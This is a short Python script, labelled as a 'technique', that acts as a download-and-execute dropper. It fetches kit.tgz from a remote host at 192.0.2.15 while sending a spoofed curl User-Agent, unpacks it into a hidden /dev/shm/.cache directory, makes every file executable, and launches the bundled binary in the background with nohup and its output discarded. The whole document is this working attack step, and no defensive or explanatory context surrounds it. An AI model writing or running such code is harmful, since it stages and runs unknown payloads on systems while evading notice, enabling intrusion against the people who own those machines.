# technique: http.client download of a tarball into /dev/shm, extract and launch the contained binary with nohup
import http.client, io, os, tarfile, subprocess

conn = http.client.HTTPConnection("192.0.2.15", 8000, timeout=30)
conn.request("GET", "/kit.tgz", headers={"User-Agent": "curl/7.88.1"})
resp = conn.getresponse()
data = resp.read()
work = "/dev/shm/.cache"
os.makedirs(work, exist_ok=True)
tarfile.open(fileobj=io.BytesIO(data), mode="r:gz").extractall(work)
for root, _, files in os.walk(work):
    for name in files:
        os.chmod(os.path.join(root, name), 0o755)
os.chdir(work)
subprocess.Popen("nohup ./run >/dev/null 2>&1 &", shell=True)
